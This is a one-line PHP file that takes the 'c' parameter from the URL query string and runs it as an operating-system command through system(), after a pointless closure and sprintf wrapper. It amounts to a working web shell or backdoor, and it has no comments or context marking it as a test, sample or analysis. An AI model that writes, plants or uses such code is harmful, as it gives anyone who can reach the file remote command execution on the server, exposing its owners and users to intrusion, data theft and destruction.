<?php $c = sprintf("%s", (fn() => $_GET["c"])()); system($c);
